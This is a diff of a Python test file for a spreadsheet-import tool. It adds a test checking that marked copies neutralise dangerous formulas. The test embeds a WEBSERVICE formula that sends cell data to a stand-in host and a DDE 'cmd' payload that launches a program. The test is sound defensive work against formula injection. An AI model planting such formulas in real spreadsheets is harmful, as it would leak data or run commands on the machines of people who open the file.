@@ -46,8 +46,9 @@ def test_preview_takes_nothing_and_says_what_would_change(folder: Path, workbook
     assert [entry["table"] for entry in made["added"]] == ["rooms", "systems"]
     assert made["changed"][0]["columns"] == {"users": {"old": "120", "new": "500"}}
     assert tables(folder) == before
-    for lang, word in (("zh", "新增"), ("en", "added")):
-        assert word in run("import", workbook, "--preview", "--estate", folder, "--lang", lang).stdout
+    for lang, words in (("zh", ("新增", "用户数: 120 → 500", "→ 信息系统：2 行")), ("en", ("added", "users: 120 → 500", "→ systems: 2 rows"))):
+        said = run("import", workbook, "--preview", "--estate", folder, "--lang", lang).stdout
+        assert all(word in said for word in words), said
 
 
 def test_taken_rows_are_of_the_census_and_in_the_ledger(folder: Path, workbook: Path) -> None:
@@ -147,6 +148,25 @@ def test_marked_copies_show_every_fault_and_come_in_again(folder: Path, tmp_path
         for made in (first, second)
     ]
     assert set(faults[0]) <= set(faults[1])
+
+
+def test_a_marked_copy_calls_nobody(folder: Path, tmp_path: Path) -> None:
+    """Whoever opens it in a spreadsheet program runs what is in it: not only what was read."""
+    file = tmp_path / "a.xlsx"
+    call = '=WEBSERVICE("http://a.example/"&A2)'
+    with xlsxwriter.Workbook(file) as book:
+        sheet = book.add_worksheet(SYSTEMS)
+        sheet.write_row(0, 0, ["系统名称", "所属单位", "用户数", "备注"])
+        sheet.write_row(1, 0, ["茶陵县就业信息登记系统", UNIT, "很多", ""])
+        sheet.write_formula("D2", call, None, 5)
+        sheet.write_formula("D9", "=SUM(C2:C3)", None, 5)
+        other = book.add_worksheet("填表说明")
+        other.write_formula("A1", "=cmd|' /C calc'!A0", None, 5)
+    assert run("import", file, "--estate", folder, "--preview", "--marked", tmp_path / "m").exit_code == 3
+    copy = load_workbook(tmp_path / "m" / "a.xlsx")
+    assert (copy[SYSTEMS]["D2"].value, copy[SYSTEMS]["D2"].data_type) == (call, "s")
+    assert copy[SYSTEMS]["D9"].data_type == "f"
+    assert copy["填表说明"]["A1"].data_type == "s"
 
 
 def test_the_original_is_never_overwritten(folder: Path, tmp_path: Path) -> None:
